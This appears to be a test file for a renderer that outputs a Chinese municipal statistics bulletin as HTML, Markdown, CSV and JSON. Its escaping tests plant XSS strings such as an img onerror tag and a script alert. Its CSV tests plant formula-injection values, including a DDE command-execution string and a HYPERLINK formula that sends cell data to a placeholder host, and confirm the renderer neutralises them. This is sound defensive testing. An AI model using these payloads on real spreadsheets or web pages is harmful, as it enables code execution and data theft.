import { describe, expect, it } from 'vitest';
import type { BulletinDocument } from '../src/document.ts';
import { barChart } from '../src/render/charts.ts';
import { CSV_HEADER } from '../src/render/csv.ts';
import { describeChange, formatValue } from '../src/render/format.ts';
import { renderAll, renderCsv, renderHtml, renderJson, renderMarkdown } from '../src/render/index.ts';
import { sampleDocument, sampleUrbanRural } from './support/sample-document.ts';

/** RFC 4180: quoted fields may hold commas, CR/LF and doubled quotes; records end with CRLF. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let field = '';
  let quoted = false;
  let i = 0;
  while (i < text.length) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i += 2;
        continue;
      }
      if (c === '"') quoted = false;
      else field += c;
      i++;
      continue;
    }
    if (c === '"' && field === '') quoted = true;
    else if (c === ',') {
      record.push(field);
      field = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      record.push(field);
      records.push(record);
      record = [];
      field = '';
      i++;
    } else if (c === '\n' || c === '\r' || c === '"') {
      throw new Error(`not RFC 4180 at ${i}: bare ${JSON.stringify(c)}`);
    } else field += c;
    i++;
  }
  if (quoted) throw new Error('unterminated quoted field');
  if (field !== '' || record.length > 0) throw new Error('last record does not end with CRLF');
  return records;
}

function count(haystack: string, needle: string): number {
  return haystack.split(needle).length - 1;
}

function hostileDocument(): BulletinDocument {
  const doc = sampleDocument();
  const county = doc.tables[0]!;
  county.rows[0]!.name = '<img onerror=x>';
  doc.breakdowns[0]!.rows[0]!.name = '苹果,"红富士" & <b>';
  doc.quality.silentVillages[0]!.name = '<script>alert(1)</script>村';
  doc.changes = ['修订 <a href="javascript:x">链接</a>'];
  return doc;
}

describe('number formatting and comparisons', () => {
  it('formats per unit: % from a ratio with 1 decimal, 万元 2, 天 1, counts as integers', () => {
    expect(formatValue(0.9153, '%')).toBe('91.5%');
    expect(formatValue(1, '%')).toBe('100.0%');
    expect(formatValue(3856.4, '万元')).toBe('3,856.40万元');
    expect(formatValue(1.005, '万元')).toBe('1.01万元');
    expect(formatValue(6.5, '天')).toBe('6.5天');
    expect(formatValue(7, '天')).toBe('7.0天');
    expect(formatValue(84420, '次')).toBe('84,420次');
    expect(formatValue(1234567.6, '人次')).toBe('1,234,568人次');
    expect(formatValue(null, '次')).toBe('—');
  });

  it('describes changes against the previous period and a year ago in words', () => {
    expect(describeChange(1540, 1400, '人', 'previous', 'quarter')).toBe('比上季度增长10.0%');
    expect(describeChange(110, 100, '件', 'previous', 'month')).toBe('比上月增长10.0%');
    expect(describeChange(3120, 3250, '件', 'previous', 'quarter')).toBe('比上季度下降4.0%');
    expect(describeChange(1123, 1000, '次', 'yearAgo', 'quarter')).toBe('比上年同期增长12.3%');
    expect(describeChange(1540, 1540, '人', 'yearAgo', 'quarter')).toBe('与上年同期持平');
    expect(describeChange(100, 80, '件', 'previous', 'year')).toBe('比上年增长25.0%');
    expect(describeChange(100, null, '件', 'previous', 'quarter')).toBe('—');
    expect(describeChange(null, 100, '件', 'yearAgo', 'quarter')).toBe('—');
    expect(describeChange(5, 0, '件', 'previous', 'month')).toBe('比上月增加5件');
  });

  it('compares percent figures in percentage points, not relative percent', () => {
    // 0.9152 vs 0.9 is +1.7% relative but +1.5 percentage points.
    expect(describeChange(0.9152, 0.9, '%', 'previous', 'quarter')).toBe('比上季度提高1.5个百分点');
    expect(describeChange(0.85, 0.9, '%', 'yearAgo', 'month')).toBe('比上年同期下降5.0个百分点');
    expect(describeChange(0.9, 0.9, '%', 'previous', 'month')).toBe('与上月持平');
  });
});

describe('charts', () => {
  it('draws an accessible, escaped, self-contained SVG bar chart', () => {
    const svg = barChart({
      title: '走访<巡查> & "次数"',
      unit: '次',
      rows: [
        { label: 'A&B', value: 10 },
        { label: '<i>', value: 5 },
        { label: '空', value: null },
      ],
    });
    expect(svg.startsWith('<svg')).toBe(true);
    expect(svg).toContain('role="img"');
    expect(svg).toContain('aria-label="走访&lt;巡查&gt; &amp; &quot;次数&quot;');
    expect(svg).toContain('<title>走访&lt;巡查&gt; &amp; &quot;次数&quot;</title>');
    expect(svg).toContain('A&amp;B');
    expect(svg).not.toContain('<i>');
    expect(count(svg, '<rect')).toBe(1 + 2); // background + two bars (the null row has none)
    expect(svg).not.toMatch(/https?:|href|<script|<image|@import/);
  });

  it('returns nothing for a chart without data', () => {
    expect(barChart({ title: '空', unit: '次', rows: [] })).toBe('');
    expect(barChart({ title: '空', unit: '次', rows: [{ label: 'x', value: null }] })).toBe('');
  });
});

describe('renderHtml', () => {
  const doc = sampleDocument();
  const html = renderHtml(doc);

  it('has the title, the issuer line and numbered sections', () => {
    expect(html.startsWith('<!DOCTYPE html>')).toBe(true);
    expect(html).toContain('<html lang="zh-CN">');
    expect(html).toContain('<title>三门峡市2024年第三季度基层治理统计公报</title>');
    expect(html).toContain('<h1>三门峡市2024年第三季度基层治理统计公报</h1>');
    expect(html).toContain('govstats 基层治理统计 · 第2版 · 生成于 2024年10月8日 09:30（北京时间）');
    for (const title of [
      '一、网格化服务管理',
      '二、矛盾纠纷排查化解',
      '三、农村实用技术培训',
      '四、农民专业合作社经营',
      '五、分地区主要指标',
      '六、分类构成',
      '七、数据质量',
    ]) {
      expect(html).toContain(`<h2>${title}</h2>`);
    }
    expect(html).toContain('<h2>注释</h2>');
    expect(html).toContain('Asia/Shanghai');
    expect(html).toContain('rollups');
  });

  it('writes headline prose with every figure and its comparisons', () => {
    expect(html).toContain('全市网格员走访巡查84,420次，比上季度增长12.3%，比上年同期增长5.0%。');
    expect(html).toContain('在岗网格员1,540人，比上季度增长10.0%，与上年同期持平。');
    expect(html).toContain('网格上报事件3,120件，比上季度下降4.0%。');
    expect(html).toContain('矛盾纠纷化解率91.5%，比上季度提高1.5个百分点，比上年同期提高1.4个百分点。');
    expect(html).toContain('化解用时中位数6.5天，比上季度下降7.1%。');
    expect(html).toContain('全市合作社销售额3,856.42万元，比上季度增长23.6%，比上年同期增长9.8%。');
    expect(html).toContain('累计培训时长2,472小时。');
    expect(html).toContain('订单农业签约额暂无数据。');
    for (const section of doc.headline) {
      for (const figure of section.figures) {
        if (figure.value !== null) expect(html).toContain(formatValue(figure.value, figure.unit));
        expect(html).toContain(figure.label);
      }
    }
  });

  it('has the tables by county and township, ranked, with a 合计 row', () => {
    expect(html).toContain('<caption>表1 各县（市、区）主要指标</caption>');
    expect(html).toContain('<caption>表2 各乡镇（街道）主要指标</caption>');
    for (const table of doc.tables) {
      for (const row of table.rows) expect(html).toContain(`<td class="left">${row.name}</td>`);
    }
    expect(count(html, '<td class="left">合计</td>')).toBe(2);
    // Rank, name, then the figures; the 合计 row closes the table with the city's figures.
    expect(html).toMatch(
      /<tr><td class="center">1<\/td><td class="left">卢氏县<\/td><td class="right">36,210<\/td><td class="right">522<\/td><td class="right">92\.3<\/td>/,
    );
    expect(html).toMatch(
      /<tfoot><tr><td class="center"><\/td><td class="left">合计<\/td><td class="right">84,420<\/td><td class="right">1,286<\/td><td class="right">91\.5<\/td><td class="right">18,654<\/td><td class="right">3,856\.42<\/td><\/tr><\/tfoot>/,
    );
    expect(html).toMatch(
      /<td class="left">张汴乡<\/td><td class="center">411203200000<\/td><td class="right">1,000<\/td><td class="right">0<\/td><td class="right">—<\/td>/,
    );
    // Township ranks in order 1..7.
    const townshipTable = html.slice(html.indexOf('表2 各乡镇'), html.indexOf('</table>', html.indexOf('表2 各乡镇')));
    expect([...townshipTable.matchAll(/<tr><td class="center">(\d+)<\/td>/g)].map((m) => Number(m[1]))).toEqual([1, 2, 3, 4, 5, 6, 7]);
  });

  it('has the breakdowns and the inline SVG charts', () => {
    expect(html).toContain('<caption>表3 合作社销售额分产品情况</caption>');
    expect(html).toContain('<caption>表4 合作社销售额分渠道情况</caption>');
    for (const name of ['苹果', '香菇', '核桃', '中药材', '其他', '线下批发', '电商平台', '订单收购']) expect(html).toContain(name);
    // Visits and resolution rate by county, revenue by product and by channel.
    expect(count(html, '<svg')).toBe(4);
    expect(count(html, 'role="img"')).toBe(4);
    expect(html).toContain('<title>图1 各县（市、区）走访巡查</title>');
    expect(html).toContain('<title>图2 各县（市、区）化解率</title>');
    expect(html).toContain('<title>图3 合作社销售额分产品情况</title>');
    expect(html).toContain('1,986.30万元');
    expect(html).toContain('92.3%');
  });

  it('skips a chart whose data is empty', () => {
    const empty = sampleDocument();
    for (const row of empty.tables[0]!.rows) row.values.visits = null;
    const rendered = renderHtml(empty);
    expect(count(rendered, '<svg')).toBe(3);
    expect(rendered).not.toContain('走访巡查</title>');
  });

  it('reports data quality and lists the villages that reported nothing', () => {
    expect(html).toContain('118,472');
    expect(html).toContain('1,204条');
    expect(html).toContain('被拒收（转入死信队列）的本市消息37条，未计入本公报');
    // Messages with no place belong to no city: the reader is told they are not in this count.
    expect(html).toContain('无法识别所属区划的消息——如无法解析且未带区划代码——不属于任何城市，未包括在内');
    expect(html).toContain('本期无任何上报的村（社区）2个');
    expect(html).toContain('卢氏县官坡镇兰西村');
    expect(html).toContain('渑池县段村乡赵沟村');
    expect(html).toContain('411224206201');
  });

  it('has a 修订说明 block only when there are changes', () => {
    expect(html).toContain('<h2>修订说明</h2>');
    expect(html).toContain('本公报为第2版，较第1版作如下修订');
    for (const change of doc.changes) expect(html).toContain(change);
    const first = { ...sampleDocument(), revision: 1, changes: [] };
    expect(renderHtml(first)).not.toContain('修订说明');
  });

  it('is print-friendly A4 with a serif CJK font stack', () => {
    expect(html).toContain('@page { size: A4; margin: 18mm; }');
    expect(html).toContain('"Noto Serif CJK SC", "Source Han Serif SC", "SimSun", serif');
    expect(html).toMatch(/table \{[^}]*break-inside: avoid/);
    expect(html).toMatch(/figure\.chart \{[^}]*break-inside: avoid/);
  });

  it('is self-contained: no URL, no script, no external resource', () => {
    expect(html).not.toMatch(/https?:\/\//i);
    expect(html).not.toMatch(/\bsrc=/i);
    expect(html).not.toMatch(/<script/i);
    expect(html).not.toMatch(/<link/i);
    expect(html).not.toMatch(/@import|url\(|@font-face/i);
    expect(html).not.toMatch(/<(img|iframe|object|embed|image)\b/i);
  });

  it('escapes hostile text from the data', () => {
    const rendered = renderHtml(hostileDocument());
    expect(rendered).not.toContain('<img onerror=x>');
    expect(rendered).toContain('&lt;img onerror=x&gt;');
    expect(rendered).not.toContain('<script>alert(1)</script>');
    expect(rendered).toContain('&lt;script&gt;alert(1)&lt;/script&gt;村');
    expect(rendered).toContain('苹果,&quot;红富士&quot; &amp; &lt;b&gt;');
    expect(rendered).not.toContain('<a href');
    expect(rendered).not.toMatch(/<(img|script|b|a)[\s>]/i);
  });
});

describe('renderMarkdown', () => {
  const doc = sampleDocument();
  const markdown = renderMarkdown(doc);

  it('has the title, prose, GitHub-style tables, data quality and changes', () => {
    expect(markdown.startsWith('# 三门峡市2024年第三季度基层治理统计公报\n')).toBe(true);
    expect(markdown).toContain('## 一、网格化服务管理');
    expect(markdown).toContain('全市网格员走访巡查84,420次，比上季度增长12.3%，比上年同期增长5.0%。');
    expect(markdown).toContain('矛盾纠纷化解率91.5%，比上季度提高1.5个百分点');
    expect(markdown).toContain('**表1 各县（市、区）主要指标**');
    expect(markdown).toContain(
      '| 位次 | 县（市、区） | 走访巡查（次） | 受理纠纷（件） | 化解率（%） | 培训人次（人次） | 合作社销售额（万元） |',
    );
    expect(markdown).toContain('| :---: | :--- | ---: | ---: | ---: | ---: | ---: |');
    expect(markdown).toContain('| 1 | 卢氏县 | 36,210 | 522 | 92.3 | 7,420 | 1,602.18 |');
    expect(markdown).toContain('|  | **合计** | **84,420** | **1,286** | **91.5** | **18,654** | **3,856.42** |');
    expect(markdown).toContain('| 苹果 | 1,986.30 | 3,812 | 4,215.5 |');
    // Every table line has the same number of cells as its header.
    for (const block of markdown.split('\n\n').filter((b) => b.startsWith('| '))) {
      const widths = block.split('\n').map((line) => line.split(' | ').length);
      expect(new Set(widths).size).toBe(1);
    }
    expect(markdown).toContain('## 七、数据质量');
    expect(markdown).toContain('卢氏县官坡镇兰西村');
    expect(markdown).toContain('> **修订说明**');
    expect(markdown).toContain(doc.changes[0]);
    expect(markdown).toContain('## 注释');
    expect(markdown).not.toMatch(/https?:\/\//);
  });

  it('escapes hostile text', () => {
    const rendered = renderMarkdown(hostileDocument());
    expect(rendered).not.toContain('<img');
    expect(rendered).not.toContain('<script');
    expect(rendered).toContain('&lt;img onerror=x&gt;');
  });
});

describe('renderCsv', () => {
  const doc = sampleDocument();
  const csv = renderCsv(doc);

  function expectedRows(d: BulletinDocument): number {
    const headline = d.headline.reduce((n, s) => n + s.figures.length, 0);
    const tables = d.tables.reduce((n, t) => n + (t.rows.length + 1) * t.columns.length, 0);
    const breakdowns = d.breakdowns.reduce((n, b) => n + b.rows.length * b.columns.length, 0);
    return headline + tables + breakdowns + 5;
  }

  it('starts with a BOM and parses back as RFC 4180 with one row per figure', () => {
    expect(csv.charCodeAt(0)).toBe(0xfeff);
    expect(Buffer.from(csv, 'utf8').subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    const [header, ...rows] = parseCsv(csv.slice(1));
    expect(header).toEqual([...CSV_HEADER]);
    expect(rows).toHaveLength(expectedRows(doc));
    expect(rows).toHaveLength(14 + 4 * 5 + 8 * 3 + 5 * 3 + 3 * 2 + 5);
    for (const row of rows) expect(row).toHaveLength(10);
    // Every row carries the revision's status.
    for (const row of rows) expect(row[9]).toBe('preliminary');

    const find = (place: string, measure: string, section?: string): string[] | undefined =>
      rows.find((r) => r[2] === place && r[3] === measure && (section === undefined || r[0] === section));
    expect(find('三门峡市', 'visits', '一、网格化服务管理')).toEqual([
      '一、网格化服务管理',
      '411200000000',
      '三门峡市',
      'visits',
      '网格员走访巡查',
      '次',
      '84420',
      '75160',
      '80400',
      'preliminary',
    ]);
    expect(find('三门峡市', 'resolution_rate', '二、矛盾纠纷排查化解')?.slice(5, 9)).toEqual(['%', '0.9152', '0.9', '0.9009']);
    expect(find('三门峡市', 'contract_value')?.slice(6, 9)).toEqual(['', '', '']);
    expect(find('卢氏县', 'visits')).toEqual([
      '表1 各县（市、区）主要指标',
      '411224000000',
      '卢氏县',
      'visits',
      '走访巡查',
      '次',
      '36210',
      '',
      '',
      'preliminary',
    ]);
    expect(find('三门峡市', 'revenue_yuan', '表1 各县（市、区）主要指标')?.[6]).toBe('3856.42');
    expect(find('张汴乡', 'resolution_rate')?.[6]).toBe('');
    expect(find('苹果', 'revenue_yuan')).toEqual([
      '表3 合作社销售额分产品情况',
      '',
      '苹果',
      'revenue_yuan',
      '销售额',
      '万元',
      '1986.3',
      '',
      '',
      'preliminary',
    ]);
    expect(find('三门峡市', 'villages_silent')?.[6]).toBe('2');
    // The two 城关镇 are told apart by their codes.
    expect(rows.filter((r) => r[2] === '城关镇' && r[3] === 'visits').map((r) => r[1])).toEqual(['411224100000', '411221100000']);
  });

  it('quotes commas, quotes and line breaks', () => {
    const hostile = hostileDocument();
    hostile.headline[0]!.figures[0]!.label = '走访,巡查\n"次数"';
    const [, ...rows] = parseCsv(renderCsv(hostile).slice(1));
    expect(rows).toHaveLength(expectedRows(hostile));
    expect(rows[0]?.[4]).toBe('走访,巡查\n"次数"');
    expect(rows.some((r) => r[2] === '苹果,"红富士" & <b>')).toBe(true);
    expect(renderCsv(hostile)).toContain('"苹果,""红富士"" & <b>"');
  });

  it('neutralises text cells a spreadsheet would run as a formula, and keeps negative figures numbers', () => {
    const doc = sampleDocument();
    const product = doc.breakdowns[0]!.rows[0]!;
    product.name = '=HYPERLINK("http://x.example/?"&A1,"点击")';
    const county = doc.tables[0]!.rows[0]!;
    county.name = '+86 卢氏县';
    const headline = doc.headline[0]!.figures[0]!;
    headline.label = "-1+cmd|' /C calc'!A0";
    headline.unit = '@SUM(1)';
    headline.value = -3;
    headline.previous = -0.5;
    doc.headline[0]!.title = '\t=1+1';
    doc.tables[0]!.rows[1]!.name = '\r=1+1';
    doc.tables[0]!.rows[2]!.name = '-3'; // a text cell that looks like a number is still text
    doc.breakdowns[0]!.rows[1]!.name = '苹果=梨 +1 -2 @3'; // only the start of a cell matters

    const [, ...rows] = parseCsv(renderCsv(doc).slice(1));
    expect(rows).toHaveLength(expectedRows(doc));
    const first = rows[0]!;
    expect(first.slice(0, 2)).toEqual(["'\t=1+1", '411200000000']);
    expect(first.slice(4, 9)).toEqual(["'-1+cmd|' /C calc'!A0", "'@SUM(1)", '-3', '-0.5', '80400']);
    expect(rows.filter((r) => r[2] === '\'=HYPERLINK("http://x.example/?"&A1,"点击")').length).toBeGreaterThan(0);
    expect(rows.filter((r) => r[2] === "'+86 卢氏县").length).toBeGreaterThan(0);
    expect(rows.filter((r) => r[2] === "'\r=1+1").length).toBeGreaterThan(0);
    expect(rows.filter((r) => r[2] === "'-3").length).toBeGreaterThan(0);
    expect(rows.filter((r) => r[2] === '苹果=梨 +1 -2 @3').length).toBeGreaterThan(0);
    // No text cell of the file starts a formula; only the value columns may start with '-', and parse as numbers.
    for (const row of rows) {
      row.slice(0, 6).forEach((cell) => expect(cell).not.toMatch(/^[=+\-@\t\r]/));
      row.slice(6, 9).forEach((cell) => expect(cell === '' || Number.isFinite(Number(cell)), cell).toBe(true));
    }
  });
});

describe('renderJson and renderAll', () => {
  it('round-trips the document', () => {
    const doc = sampleDocument();
    const json = renderJson(doc);
    expect(JSON.parse(json)).toEqual(doc);
    expect(json).toContain('\n  "city": {');
  });

  it('renders all four outputs from one document', () => {
    const doc = sampleDocument();
    const all = renderAll(doc);
    expect(all).toEqual({ html: renderHtml(doc), markdown: renderMarkdown(doc), csv: renderCsv(doc), json: renderJson(doc) });
  });
});

describe('a breakdown whose rows are measures: 城乡分列', () => {
  const doc = sampleDocument();
  doc.breakdowns.push(sampleUrbanRural());
  const html = renderHtml(doc);
  const markdown = renderMarkdown(doc);

  it('shows each row in its own unit, — where a distinct count has no remainder', () => {
    expect(html).toContain('<caption>表5 主要指标城乡分列</caption>');
    expect(html).toContain(
      '<thead><tr><th scope="col">项目</th><th scope="col">城镇</th><th scope="col">乡村</th><th scope="col">乡镇及以上</th><th scope="col">合计</th></tr></thead>',
    );
    expect(html).toContain(
      '<tr><td class="left">走访巡查（次）</td><td class="right">30,120</td><td class="right">54,300</td><td class="right">0</td><td class="right">84,420</td></tr>',
    );
    expect(html).toContain(
      '<td class="left">开展工作的网格员（人）</td><td class="right">512</td><td class="right">1,040</td><td class="right">—</td><td class="right">1,540</td>',
    );
    // 万元 keeps two decimals in its row, whatever the column.
    expect(html).toContain(
      '<td class="left">合作社销售收入（万元）</td><td class="right">1,203.50</td><td class="right">2,452.92</td><td class="right">200.00</td><td class="right">3,856.42</td>',
    );
    expect(markdown).toContain('| 参训（人次） | 4,100 | 11,554 | 3,000 | 18,654 |');
    // No chart for it: its columns are places of work, not categories of one measure.
    expect(count(html, '<svg')).toBe(4);
  });

  it('explains the columns in the notes', () => {
    expect(html).toContain('城乡分列：城镇、乡村按事件所属村（社区）的城乡属性划分');
    expect(renderHtml(sampleDocument())).not.toContain('城乡分列：');
  });

  it("gives each cell in CSV as the city's measure by area, in the row's unit", () => {
    const [, ...rows] = parseCsv(renderCsv(doc).slice(1));
    expect(rows).toHaveLength(14 + 4 * 5 + 8 * 3 + 5 * 3 + 3 * 2 + 4 * 4 + 5);
    const section = rows.filter((r) => r[0] === '表5 主要指标城乡分列');
    expect(section).toHaveLength(16);
    expect(section[0]).toEqual([
      '表5 主要指标城乡分列',
      '411200000000',
      '三门峡市',
      'visits.urban',
      '走访巡查（城镇）',
      '次',
      '30120',
      '',
      '',
      'preliminary',
    ]);
    expect(section.find((r) => r[3] === 'grid_members_active.above_village')?.slice(5, 9)).toEqual(['人', '', '', '']);
    expect(section.find((r) => r[3] === 'revenue_yuan.total')?.slice(4, 7)).toEqual(['合作社销售收入（合计）', '万元', '3856.42']);
  });

  it('round-trips through JSON', () => {
    expect(JSON.parse(renderJson(doc))).toEqual(doc);
  });
});
